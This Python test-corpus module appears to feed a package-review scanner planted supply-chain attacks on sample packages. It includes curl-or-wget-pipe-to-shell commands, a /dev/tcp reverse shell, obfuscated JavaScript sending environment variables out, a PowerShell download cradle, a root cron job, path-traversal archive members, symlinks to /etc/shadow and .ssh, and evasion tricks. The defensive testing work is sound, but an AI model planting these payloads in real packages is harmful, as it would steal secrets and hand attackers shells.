"""Files of a kind that the package never had, native code, and archives that are not what they seem."""

# ruff: noqa: E501 - what is planted is kept on lines of its own length

from __future__ import annotations

import tarfile

from tests.review.corpus.archives import members_of, with_member, with_record, with_tar_member, zipped
from tests.review.corpus.attack import Family, planted
from tests.review.corpus.bases.native import CORE, IMPORTS
from tests.review.corpus.draft import Draft
from tests.review.corpus.elf import make_shared_object

__all__: list[str] = []

_KIND = Family.FIRST_KIND
_NATIVE = Family.NATIVE
_ARCHIVE = Family.ARCHIVE
_EVIL = b"import os\n\nos.system('curl -s https://arc.invalid | sh')\n"


@planted(
    _KIND,
    base="client",
    where=("harborline/_runtime/start.py", "harborline/_runtime/router.js", "harborline/__init__.py"),
    unasked=True,
)
def javascript_beside_a_starter(draft: Draft) -> None:
    draft.put(
        "harborline/_runtime/router.js",
        "var _0x1a=['env'];(function(a){fetch('https://js.invalid',{method:'POST',body:JSON.stringify(process[a[0]])})})(_0x1a);"
        * 40,
    )
    draft.put(
        "harborline/_runtime/start.py",
        "import subprocess\nimport threading\nfrom pathlib import Path\n\n\ndef go():\n    here = Path(__file__).parent\n"
        "    subprocess.run(['bun', str(here / 'router.js')], cwd=here, capture_output=True)\n\n\n"
        "def start():\n    threading.Thread(target=go, daemon=True).start()\n",
    )
    draft.put("harborline/_runtime/__init__.py", "")
    draft.append("harborline/__init__.py", "from harborline._runtime.start import start\n\nstart()\n")


@planted(_KIND, base="command", where=("tidelog/data/index.sh", "tidelog/cli.py"))
def shell_script(draft: Draft) -> None:
    draft.put("tidelog/data/index.sh", "#!/bin/sh\ncurl -s https://sh.invalid/x | sh\n")
    draft.after(
        "tidelog/cli.py",
        "    options = build_parser()",
        "    import os.path\n    import subprocess\n\n    subprocess.Popen(['sh', os.path.join(os.path.dirname(__file__), 'data', 'index.sh')])\n",
    )


@planted(_KIND, base="client", where=("harborline/bin/helper.exe", "harborline/_client.py"))
def windows_program(draft: Draft) -> None:
    draft.put(
        "harborline/bin/helper.exe", b"MZ" + b"\0" * 58 + b"\x80\0\0\0" + b"\0" * 64 + b"PE\0\0d\x86" + b"\0" * 400
    )
    draft.after(
        "harborline/_client.py",
        "    def close(self) -> None:",
        "        from pathlib import Path\n\n        if platform.system() == 'Windows':\n            os.startfile(Path(__file__).parent / 'bin' / 'helper.exe')\n",
    )


@planted(_KIND, base="framework", where=("quayside/web/static/report.jar", "quayside/web/health.py"))
def java_archive(draft: Draft) -> None:
    draft.put(
        "quayside/web/static/report.jar",
        zipped([("META-INF/MANIFEST.MF", b"Main-Class: R\n"), ("R.class", b"\xca\xfe\xba\xbe" + b"\0" * 60)]),
    )
    draft.after(
        "quayside/web/health.py",
        "        health = self",
        "        import pathlib, subprocess\n\n        subprocess.Popen(['java', '-jar', pathlib.Path(__file__).with_name('static') / 'report.jar'])\n",
    )


@planted(
    _KIND, base="command", where=("tidelog/data/rules.pyz", "tidelog/formats/__init__.py"), evasive=True, unasked=True
)
def zipped_application(draft: Draft) -> None:
    draft.put("tidelog/data/rules.pyz", b"#!/usr/bin/env python3\n" + zipped([("__main__.py", _EVIL)]))
    draft.append(
        "tidelog/formats/__init__.py",
        "\n\nimport os.path\nimport runpy\n\nrunpy.run_path(os.path.join(os.path.dirname(__file__), '..', 'data', 'rules.pyz'))\n",
    )


@planted(_KIND, base="client", where=("harborline/vendor.zip", "harborline/__init__.py"), evasive=True, unasked=True)
def archive_on_the_path(draft: Draft) -> None:
    draft.put("harborline/vendor.zip", zipped([("harbor_extra/__init__.py", _EVIL)]))
    draft.append(
        "harborline/__init__.py",
        "\nimport sys\nfrom pathlib import Path\n\nsys.path.insert(0, str(Path(__file__).with_name('vendor.zip')))\nimport harbor_extra\n",
    )


@planted(_KIND, base="framework", where=("quayside/web/static/logo.png", "quayside/web/health.py"), evasive=True)
def script_in_a_picture(draft: Draft) -> None:
    draft.put("quayside/web/static/logo.png", b"#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.30/9001 0>&1\n")
    draft.after(
        "quayside/web/health.py",
        "        health = self",
        "        import os, pathlib\n\n        logo = pathlib.Path(__file__).parent / 'static' / 'logo.png'\n        logo.chmod(0o755)\n        os.spawnv(os.P_NOWAIT, logo, [str(logo)])\n",
    )


@planted(_KIND, base="native", where=("fastbuoy/setup.ps1", "fastbuoy/_fallback.py"))
def powershell(draft: Draft) -> None:
    draft.put("fastbuoy/setup.ps1", "IEX (New-Object Net.WebClient).DownloadString('https://ps.invalid/a')\r\n")
    draft.append(
        "fastbuoy/_fallback.py",
        "\n\ndef accelerate():\n    import os, subprocess\n\n"
        "    subprocess.call(['powershell', '-ExecutionPolicy', 'Bypass', '-File', os.path.join(os.path.dirname(__file__), 'setup.ps1')])\n",
    )


@planted(
    _KIND, base="framework", where=("quayside/_bundled/extra-1.0-py3-none-any.whl", "quayside/plugins.py"), evasive=True
)
def wheel_in_the_wheel(draft: Draft) -> None:
    draft.put(
        "quayside/_bundled/extra-1.0-py3-none-any.whl",
        zipped([("extra.py", _EVIL), ("extra-1.0.dist-info/RECORD", b"")]),
    )
    draft.append(
        "quayside/plugins.py",
        "\n\ndef install_bundled():\n    import glob, os, subprocess, sys\n\n    here = os.path.join(os.path.dirname(__file__), '_bundled', '*.whl')\n"
        "    subprocess.call([sys.executable, '-m', 'pip', 'install', '--no-deps', '--break-system-packages', *glob.glob(here)])\n",
    )


def _core(*, imports: tuple[str, ...] = (), strings: tuple[str, ...] = (), exports: tuple[str, ...] = ()) -> bytes:
    return make_shared_object(
        imports=(*IMPORTS, *imports),
        exports=("PyInit__core", *exports),
        strings=("fastbuoy._core", "buffer is too short", *strings),
        filling=bytes(range(256)) * 18,
    )


@planted(_NATIVE, base="client", where=("harborline/_accel.so", "harborline/__init__.py"))
def library_in_a_pure_package(draft: Draft) -> None:
    draft.put(
        "harborline/_accel.so",
        make_shared_object(
            imports=("system", "getenv", "fork"), exports=("init",), strings=("/bin/sh", "curl -s https://so.invalid")
        ),
    )
    draft.append(
        "harborline/__init__.py",
        "\nimport ctypes\nimport pathlib\n\nctypes.CDLL(str(pathlib.Path(__file__).with_name('_accel.so'))).init()\n",
    )


@planted(_NATIVE, base="native", where=(CORE,))
def core_that_starts_programs(draft: Draft) -> None:
    draft.put(CORE, _core(imports=("system", "popen", "execve", "fork")))


@planted(_NATIVE, base="native", where=(CORE,))
def core_that_connects(draft: Draft) -> None:
    draft.put(
        CORE,
        _core(
            imports=("socket", "connect", "getaddrinfo", "send", "getenv"), strings=("c2.invalid", "POST /k HTTP/1.1")
        ),
    )


@planted(_NATIVE, base="native", where=("fastbuoy/_simd.cpython-312-x86_64-linux-gnu.so", "fastbuoy/__init__.py"))
def second_extension(draft: Draft) -> None:
    draft.put(
        "fastbuoy/_simd.cpython-312-x86_64-linux-gnu.so",
        make_shared_object(imports=("execvp", "dup2", "socket", "connect"), exports=("PyInit__simd",)),
    )
    draft.append("fastbuoy/__init__.py", "\nfrom fastbuoy import _simd\n")


@planted(_NATIVE, base="native", where=(CORE,), evasive=True)
def core_that_finds_names_itself(draft: Draft) -> None:
    draft.put(CORE, _core(imports=("dlopen", "dlsym", "mprotect", "mmap")))


@planted(_NATIVE, base="native", where=("fastbuoy.libs/libbuoy-7c1e2f.so.1",), evasive=True)
def library_beside_the_core(draft: Draft) -> None:
    draft.put(
        "fastbuoy.libs/libbuoy-7c1e2f.so.1",
        make_shared_object(imports=("ptrace", "memfd_create", "fexecve", "dl_iterate_phdr"), exports=("_get_cpuid",)),
    )
    draft.put(
        CORE,
        make_shared_object(
            imports=IMPORTS,
            exports=("PyInit__core",),
            needed=("libc.so.6", "libbuoy-7c1e2f.so.1"),
            filling=b"\x90" * 4000,
        ),
    )


@planted(_NATIVE, base="command", where=("tidelog/data/model.bin", "tidelog/render.py"), evasive=True)
def library_under_another_name(draft: Draft) -> None:
    draft.put(
        "tidelog/data/model.bin",
        make_shared_object(
            imports=("system", "unlink"), exports=("predict",), strings=("wget -q https://bin.invalid -O- | sh",)
        ),
    )
    draft.append(
        "tidelog/render.py",
        "\n\ndef predict(counts):\n    from ctypes import cdll\n    from os.path import dirname, join\n\n    return cdll.LoadLibrary(join(dirname(__file__), 'data', 'model.bin')).predict()\n",
    )


@planted(_NATIVE, base="command", where=("scripts/tidelog-index",), evasive=True)
def program_among_the_scripts(draft: Draft) -> None:
    draft.put_beyond(
        f"{draft.stem}.data/scripts/tidelog-index",
        make_shared_object(imports=("execve", "setuid", "connect"), strings=("/bin/sh", "198.51.100.60")),
    )


@planted(_ARCHIVE, base="client", where=("harborline/_client.py",))
def one_name_twice(draft: Draft) -> None:
    draft.remake.append(with_member("harborline/_client.py", _EVIL, recorded=False))


@planted(_ARCHIVE, base="client", where=("harborline/_retry.py",))
def content_that_record_does_not_know(draft: Draft) -> None:
    def remake(wheel: bytes) -> bytes:
        return zipped(
            (name, said + b"\nimport harborline._models\n" if name == "harborline/_retry.py" else said)
            for name, said in members_of(wheel)
        )

    draft.remake.append(remake)


@planted(_ARCHIVE, base="command", where=("tidelog/_plugin.py",))
def member_that_record_does_not_list(draft: Draft) -> None:
    draft.remake.append(with_member("tidelog/_plugin.py", b"NAME = 'plugin'\n", recorded=False))


@planted(_ARCHIVE, base="framework")
def path_that_leaves(draft: Draft) -> None:
    draft.remake.append(with_member("../../../../usr/lib/python3/dist-packages/apt_hook.py", _EVIL, recorded=True))


@planted(_ARCHIVE, base="native")
def absolute_path(draft: Draft) -> None:
    draft.remake.append(
        with_member("/etc/cron.d/fastbuoy", b"* * * * * root curl -s https://c.invalid | sh\n", recorded=True)
    )


@planted(_ARCHIVE, base="client", where=("harborline/state",))
def link_in_a_wheel(draft: Draft) -> None:
    draft.remake.append(with_member("harborline/state", b"/home/ada/.ssh", recorded=False, is_link=True))


@planted(_ARCHIVE, base="command")
def link_and_device_in_an_sdist(draft: Draft) -> None:
    link = tarfile.TarInfo(f"{draft.stem}/docs/conf")
    link.type, link.linkname = tarfile.SYMTYPE, "/etc/shadow"
    device = tarfile.TarInfo(f"{draft.stem}/docs/null")
    device.type = tarfile.CHRTYPE
    draft.remake_sdist += [with_tar_member(link), with_tar_member(device)]


@planted(_ARCHIVE, base="client", evasive=True)
def local_header_of_another_name(draft: Draft) -> None:
    def remake(wheel: bytes) -> bytes:
        # The first place is the local header, the last one the directory.
        at = wheel.index(b"harborline/_models.py")
        return wheel[:at] + b"harborline/_mode1s.py" + wheel[at + len(b"harborline/_models.py") :]

    draft.remake.append(remake)


@planted(_ARCHIVE, base="framework", evasive=True)
def bytes_before_the_archive(draft: Draft) -> None:
    draft.remake.append(lambda wheel: b"#!/bin/sh\ncurl -s https://poly.invalid | sh\nexit\n" + wheel)


@planted(_ARCHIVE, base="framework", evasive=True)
def second_archive_in_front(draft: Draft) -> None:
    def remake(wheel: bytes) -> bytes:
        other = zipped([("quayside/__init__.py", _EVIL)])
        return other + wheel

    draft.remake.append(remake)


@planted(_ARCHIVE, base="client", where=("harborline/_Client.py", "harborline/_client.py"), evasive=True)
def names_that_differ_by_case(draft: Draft) -> None:
    draft.remake.append(with_member("harborline/_Client.py", _EVIL, recorded=True))


@planted(_ARCHIVE, base="native", evasive=True)
def record_without_hashes(draft: Draft) -> None:
    def change(record: bytes) -> bytes:
        return b"".join(line.split(b",")[0] + b",,\n" for line in record.splitlines())

    draft.remake.append(with_record(change))


@planted(_ARCHIVE, base="command", evasive=True)
def name_with_an_invisible_character(draft: Draft) -> None:
    draft.put("tidelog/for\u200bmats.py", _EVIL)
